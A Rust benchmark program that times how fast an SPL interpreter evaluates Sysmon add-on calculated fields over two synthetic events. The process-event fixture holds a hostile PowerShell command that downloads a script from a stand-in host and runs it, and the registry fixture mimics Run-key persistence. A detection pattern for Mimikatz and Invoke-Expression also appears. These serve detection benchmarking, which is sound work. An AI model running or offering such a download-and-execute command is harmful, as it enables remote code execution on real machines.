//! Nanoseconds per evaluation of the Sysmon add-on's calculated fields, the hot path of the
//! add-on interpreter. Run with
//! `cargo run --release -p cimhunt-spl --example eval_speed` (`EVAL_SPEED_FILTER=<text>` runs the
//! cases whose label contains the text).

use std::hint::black_box;
use std::time::Instant;

use cimhunt_spl::eval::{EvalCtx, EvalExpr};
use cimhunt_spl::record::Record;
use cimhunt_spl::sym::Sym;
use cimhunt_spl::time::Timestamp;
use cimhunt_spl::value::Value;

/// An event of a dozen fields, looked up by a linear scan as a small decoded event would be.
struct Event(Vec<(Sym, String)>);

impl Record for Event {
    fn value(&self, field: Sym) -> Value<'_> {
        self.0
            .iter()
            .find(|(s, _)| *s == field)
            .map_or(Value::Null, |(_, v)| Value::from_field(v.as_str()))
    }
}

fn event(pairs: &[(&str, &str)]) -> Event {
    Event(
        pairs
            .iter()
            .map(|(k, v)| (Sym::new(k), (*v).to_owned()))
            .collect(),
    )
}

const PROCESS_NAME: &str = r#"case( EventCode IN ("1","2","3","5","7","9","11","12","13","14","15","17","18","22","23","24","26","27","28"), replace(Image,"(.*\\\)(?=.*(\.\w*)$|(\w+)$)",""), EventCode IN ("7"), replace(ImageLoaded,"(.*\\\)(?=.*(\.\w*)$|(\w+)$)",""), EventCode IN ("8","10"), replace(TargetImage,"(.*\\\)(?=.*(\.\w*)$|(\w+)$)","") )"#;
const ORIGINAL_FILE_NAME: &str = r#"case( EventCode IN ("1","7") AND isnotnull(OriginalFileName) AND OriginalFileName != "-", OriginalFileName)"#;
const DEST: &str = r#"case( EventCode IN ("1","2","4","5","6","7","8","9","10","11","12","13","14","15","16","17","18","19","20","21","23","24","25","26","27","28","29","255"), Computer, EventCode="3" AND isnotnull(DestinationHostname) AND DestinationHostname != "-", DestinationHostname, EventCode="3", DestinationIp )"#;
const USER: &str = r#"case( NOT isnull(User) AND NOT User IN ("-"), replace(User, "(.*)\\\(.+)$","\2"), NOT isnull(SourceUser) AND  NOT isnull(TargetUser) AND SourceUser==TargetUser, replace(SourceUser, "(.*)\\\(.+)$","\2"))"#;
const HIVE: &str = r#"case( EventCode IN ("12","13","14") AND like(TargetObject, "HKLM\System\%"), "HKEY_LOCAL_MACHINE\\\\System", EventCode IN ("12","13","14") AND like(TargetObject, "HKU\%"), "HKEY_CURRENT_USER", EventCode IN ("12","13","14") AND like(TargetObject, "HKLM\SOFTWARE\%"), "HKEY_LOCAL_MACHINE\\\\Software" )"#;
const MATCH: &str = r#"match(CommandLine, "(?i)invoke-(mimikatz|expression)")"#;
const LOWER_EQ: &str = r#"lower(ParentImage) = "c:\\windows\\system32\\cmd.exe""#;

fn main() {
    let process = event(&[
        ("EventCode", "1"),
        ("UtcTime", "2020-10-08 11:03:46.615"),
        ("ProcessGuid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
        ("ProcessId", "5616"),
        (
            "Image",
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ),
        ("OriginalFileName", "PowerShell.EXE"),
        (
            "CommandLine",
            r#"powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')""#,
        ),
        ("CurrentDirectory", r"C:\Users\alice\"),
        ("User", r"CORP\alice"),
        ("IntegrityLevel", "High"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
        ("Computer", "win-dc-01.corp.local"),
    ]);
    let registry = event(&[
        ("EventCode", "13"),
        ("EventType", "SetValue"),
        (
            "TargetObject",
            r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\evil",
        ),
        ("Details", r"C:\x\e.exe"),
        ("Computer", "win-dc-01.corp.local"),
        ("Image", r"C:\x\e.exe"),
    ]);
    let ctx = EvalCtx::new(Timestamp::from_nanos(1_602_155_026_000_000_000, 0));
    let cases: [(&str, &str, &Event); 11] = [
        (
            "a field (baseline: one record lookup)",
            "EventCode",
            &process,
        ),
        ("a literal (baseline: no lookup)", "\"x\"", &process),
        (
            "process_name (EventCode 1: IN, replace with look-ahead)",
            PROCESS_NAME,
            &process,
        ),
        (
            "process_name (EventCode 13 → Image)",
            PROCESS_NAME,
            &registry,
        ),
        (
            "original_file_name (borrowed result)",
            ORIGINAL_FILE_NAME,
            &process,
        ),
        ("dest (IN of 28 strings → Computer)", DEST, &process),
        ("user (replace with a back-reference)", USER, &process),
        ("registry_hive (like)", HIVE, &registry),
        ("registry_hive (EventCode 1: IN fails fast)", HIVE, &process),
        ("where match(CommandLine, \"(?i)…\")", MATCH, &process),
        ("where lower(ParentImage) = \"…\"", LOWER_EQ, &process),
    ];
    // `EVAL_SPEED_FILTER=hive` runs only the cases whose label contains `hive`.
    let filter = std::env::var("EVAL_SPEED_FILTER").unwrap_or_default();
    println!("{:<55} {:>10}  result", "expression", "ns/eval");
    for (label, text, rec) in cases {
        if !label.contains(filter.as_str()) {
            continue;
        }
        let expr = EvalExpr::parse(text).expect("the benchmark expressions parse");
        let result = expr.eval(rec, &ctx).to_string();
        // Warm up, then measure.
        for _ in 0..10_000 {
            black_box(expr.eval(black_box(rec), &ctx));
        }
        let n = 500_000u32;
        let start = Instant::now();
        for _ in 0..n {
            black_box(expr.eval(black_box(rec), &ctx));
        }
        let ns = start.elapsed().as_nanos() as f64 / f64::from(n);
        println!("{label:<55} {ns:>10.1}  {result}");
    }

    // The same `process_name` over 8,192 different images: more than a thread remembers, so
    // every `replace` runs the regular expression.
    let label = "process_name (a different Image each time)";
    if label.contains(filter.as_str()) {
        let expr = EvalExpr::parse(PROCESS_NAME).expect("the benchmark expressions parse");
        let events: Vec<Event> = (0..8192)
            .map(|i| {
                let image = format!(r"C:\Program Files\Vendor{i}\bin\tool{i}.exe");
                event(&[("EventCode", "1"), ("Image", image.as_str())])
            })
            .collect();
        let n = 200_000usize;
        let start = Instant::now();
        for i in 0..n {
            black_box(expr.eval(black_box(&events[i % events.len()]), &ctx));
        }
        let ns = start.elapsed().as_nanos() as f64 / n as f64;
        let result = expr.eval(&events[7], &ctx).to_string();
        println!("{label:<55} {ns:>10.1}  {result}");
    }
}
